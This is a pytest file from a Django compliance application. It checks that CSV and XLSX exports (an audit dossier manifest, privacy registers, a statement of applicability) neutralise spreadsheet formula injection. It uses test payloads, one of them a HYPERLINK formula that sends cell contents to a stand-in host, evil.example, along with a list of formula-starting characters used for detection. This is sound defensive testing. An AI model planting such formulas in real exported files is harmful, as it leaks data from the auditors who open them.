"""Attack: text that a spreadsheet runs as a formula, planted where Waarborg writes it to a
CSV or XLSX file an auditor opens. Before, the dossier's manifest.csv wrote an uploaded
file's original name as it was (`=1+1+HYPERLINK(...)` became a live formula), and the
privacy registers and the statement of applicability had writers of their own. Now every
CSV and XLSX goes through the one neutralising writer in core/exporters.py."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from compliance.controls import accept_check, submit_check
from compliance.evidence import add_evidence
from compliance.models import CheckStatus, Control, Framework, Frequency, Requirement
from privacy.models import ProcessingActivity

pytestmark = pytest.mark.django_db

EVIL_NAME = '=1+1+HYPERLINK("x").txt'
EVIL_TEXT = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ROOT = Path(settings.BASE_DIR)


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path / "media"


def live_formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_START)]


def xlsx_cells(content: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell.value for row in sheet.iter_rows() for cell in row]


def test_an_uploaded_file_named_as_a_formula_is_neutralised_in_the_dossier_manifest(
    make_user, employee, security_officer, auditor, api_as
):
    control = Control.objects.create(
        code="LR-900",
        title="Logbestanden",
        owner=employee,
        frequency=Frequency.QUARTERLY,
        test_method="Steekproef",
        start_date=date(2021, 1, 1),
    )
    check = control.checks.filter(status=CheckStatus.OPEN).order_by("period_start").first()
    add_evidence(check, employee, upload=SimpleUploadedFile(EVIL_NAME, b"logregels\n"))
    add_evidence(check, employee, note=EVIL_TEXT)
    accept_check(submit_check(check, employee, "effective", "Werkt"), security_officer)
    check.refresh_from_db()

    period = {"from": check.period_start.isoformat(), "to": check.period_end.isoformat()}
    response = api_as(auditor).get(f"/api/v1/controls/{control.pk}/dossier/", period)
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL_NAME in cells  # shown as text, the name still readable
    assert "'" + EVIL_TEXT in cells
    assert live_formulas(cells) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_privacy_register_exports_neutralise_formulas_and_survive_control_characters(
    fmt, make_user, privacy_officer, api_as
):
    ProcessingActivity.objects.create(
        code="@vw-1",
        name=EVIL_TEXT,
        controller_contact="+31 70 123 4567",
        dpo_contact="FG \x07 BZK",  # a control character a worksheet cannot hold
        registered_on=date(2021, 3, 1),
        owner=make_user(None),
    )
    response = api_as(privacy_officer).get(f"/api/v1/privacy/processing-activities/export/{fmt}/")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for c in row]
    else:
        cells = [c for c in xlsx_cells(content) if isinstance(c, str)]
    assert "'" + EVIL_TEXT in cells and "'@vw-1" in cells
    assert live_formulas(cells) == []


def test_the_statement_of_applicability_as_xlsx_survives_control_characters(security_officer, api_as):
    framework = Framework.objects.create(urn="urn:x:f", ref_id="F", name="F", version=1)
    Requirement.objects.create(
        framework=framework, urn="urn:x:r", ref_id="-1", name=EVIL_TEXT + "\x01", assessable=True, depth=1
    )
    response = api_as(security_officer).get(f"/api/v1/frameworks/{framework.pk}/soa/?export=xlsx")
    assert response.status_code == 200, response.content[:300]
    cells = [c for c in xlsx_cells(response.content) if isinstance(c, str)]
    assert any(c.startswith("'" + EVIL_TEXT) for c in cells)
    assert live_formulas(cells) == []


WRITERS = re.compile(r"\bcsv\.writer\(|\bWorkbook\(|\bWriteOnlyCell\(|\bxlsxwriter\b")


def test_no_module_but_the_shared_writer_writes_csv_or_xlsx():
    """A new export that builds its own csv.writer or workbook bypasses the neutralising."""
    offenders = []
    for package in ("core", "accounts", "organisation", "compliance", "incidents", "privacy", "reports", "config"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "core" / "exporters.py" or "migrations" in path.parts:
                continue
            if path == ROOT / "incidents" / "bench_ratios.py":
                continue  # the benchmark's baseline: a bare workbook, measured, never served
            if WRITERS.search(path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
